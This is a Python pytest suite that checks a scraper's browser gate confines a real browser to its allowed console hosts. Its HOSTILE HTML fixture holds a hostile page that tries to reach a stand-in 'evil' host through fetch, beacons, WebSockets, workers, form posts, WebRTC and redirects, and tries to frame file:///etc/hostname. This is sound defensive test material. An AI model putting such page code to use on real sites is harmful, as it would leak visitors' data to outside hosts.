"""What a real browser can reach from a hostile page: the console's hosts and nothing else."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import BrowserContext, Error, Page

from scraper.browser.gate import Gate
from scraper.browser.launch import Engine
from scraper.browser.reach import Reach
from scraper.browser.wire import Wire
from tests.browser.site import Asked, Say, Site

pytestmark = pytest.mark.browser
HTML = (("Content-Type", "text/html"),)
SCRIPT = (("Content-Type", "text/javascript"),)

HOSTILE = """<!doctype html>
<img src="{evil}/image"><iframe src="{evil}/frame"></iframe><link rel=stylesheet href="{evil}/style">
<link rel=prefetch href="{evil}/prefetch"><link rel=preconnect href="{evil}">
<script src="{evil}/script"></script>
<iframe src="file:///etc/hostname"></iframe><object data="{evil}/object"></object>
<iframe src="/to-evil"></iframe><video src="{evil}/video"></video><embed src="{evil}/embed">
<script>
  fetch("{evil}/fetch", {{mode: "no-cors"}}).catch(() => 0);
  fetch("/to-evil", {{mode: "no-cors"}}).catch(() => 0);
  navigator.sendBeacon("{evil}/beacon", "x");
  new WebSocket("{evil}/socket".replace("http", "ws"));
  new EventSource("{evil}/events");
  new Worker("/worker.js");
  window.open("{evil}/popup");
  navigator.serviceWorker && navigator.serviceWorker.register("/worker.js").catch(() => 0);
  const form = document.createElement("form");
  form.action = "{evil}/form"; form.method = "post"; form.target = "_blank";
  document.body.appendChild(form); form.submit();
  const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:" + "{evil}".replace("http://", "")}}]}});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  document.title = "done";
</script>"""


@asynccontextmanager
async def browser(*reach: str, blocked: list[str] | None = None) -> AsyncIterator[BrowserContext]:
    gate = Gate(Reach(reach), Wire({}), (blocked if blocked is not None else []).append)
    engine = Engine(proxy=await gate.start())
    try:
        await engine.start()
        yield engine.context
    finally:
        await engine.stop()
        await gate.stop()


async def title(page: Page, url: str) -> str:
    await page.goto(url, wait_until="commit")
    await page.wait_for_function("document.title === 'done'", timeout=5000)
    return await page.title()


class Datagrams(asyncio.DatagramProtocol):
    """Remembers what comes, such as a peer connection's search for a way out."""

    transport: asyncio.DatagramTransport

    def __init__(self) -> None:
        self.came: list[bytes] = []

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.came.append(data)


async def listen_for_datagrams(origin: str) -> Datagrams:
    place = ("127.0.0.1", int(origin.rpartition(":")[2]))
    transport, datagrams = await asyncio.get_running_loop().create_datagram_endpoint(Datagrams, place)
    datagrams.transport = transport
    return datagrams


def test_a_hostile_page_reaches_no_other_host_by_any_means() -> None:
    blocked: list[str] = []

    async def run() -> tuple[list[Asked | bytes], list[str]]:
        async with Site({}) as evil:
            udp = await listen_for_datagrams(evil.origin)
            socket = "ws" + evil.origin.removeprefix("http")
            worker = f"fetch('{evil.origin}/worker').catch(() => 0); new WebSocket('{socket}/socket');"
            routes = {
                "/": Say(HOSTILE.format(evil=evil.origin).encode(), headers=HTML),
                "/worker.js": Say(worker.encode(), headers=SCRIPT),
                "/to-evil": Say(status=302, headers=(("Location", f"{evil.origin}/redirected"),)),
            }
            async with Site(routes) as console, browser(console.origin, blocked=blocked) as context:
                assert await title(await context.new_page(), f"{console.origin}/") == "done"
                await asyncio.sleep(0.7)
                assert console.count("/worker.js") >= 1
                assert console.count("/to-evil") >= 1
                udp.transport.close()
                return [*evil.asked, *udp.came], [evil.origin]

    came, origins = asyncio.run(run())
    assert came == []
    assert origins[0] in blocked


def test_the_browser_cannot_be_sent_to_another_host() -> None:
    async def run() -> int:
        async with Site({}) as evil, Site({}) as console, browser(console.origin) as context:
            for url in (
                f"{evil.origin}/",
                evil.origin.replace("127.0.0.1", "localhost"),
                "https://a.example/",
            ):
                page = await context.new_page()
                with pytest.raises(Error):
                    await page.goto(url)
            return len(evil.asked)

    assert asyncio.run(run()) == 0


def test_two_named_hosts_are_both_reached_and_set_cookies_of_their_own() -> None:
    async def run() -> list[tuple[str, str]]:
        cookie = Say(b"<title>done</title>", headers=(*HTML, ("Set-Cookie", "a=1; path=/")))
        async with (
            Site({"/": cookie}) as one,
            Site({"/": cookie}, host="127.0.0.2") as two,
            browser(one.origin, two.origin) as context,
        ):
            page = await context.new_page()
            await title(page, f"{one.origin}/")
            await title(page, f"{two.origin}/")
            return [(str(c.get("domain")), str(c.get("value"))) for c in await context.cookies()]

    assert sorted(asyncio.run(run())) == [("127.0.0.1", "1"), ("127.0.0.2", "1")]


def test_a_download_is_not_made() -> None:
    async def run() -> None:
        file = Say(b"x" * 99, headers=(("Content-Disposition", "attachment; filename=a.exe"),))
        async with Site({"/": file}) as console, browser(console.origin) as context:
            page = await context.new_page()
            with pytest.raises(Error):
                await page.goto(f"{console.origin}/")

    asyncio.run(run())


def test_the_gate_serves_nobody_who_asks_for_another_host() -> None:
    async def run() -> tuple[bytes, int]:
        async with Site({"/": Say(b"secret")}) as other, Site({}) as console:
            gate = Gate(Reach([console.origin]), Wire({}), lambda _: None)
            port = int((await gate.start()).rpartition(":")[2])
            answers = b""
            heads = [
                f"GET {other.origin}/ HTTP/1.1",
                f"CONNECT {other.origin[7:]} HTTP/1.1",
                "GET / HTTP/1.1",
                "\x00\xff junk",
                "GET http://[ HTTP/1.1",
            ]
            for head in heads:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(f"{head}\r\n\r\n".encode("latin-1"))
                answers += await reader.read()
                writer.close()
            await gate.stop()
            return answers, len(other.asked)

    assert asyncio.run(run()) == (b"", 0)
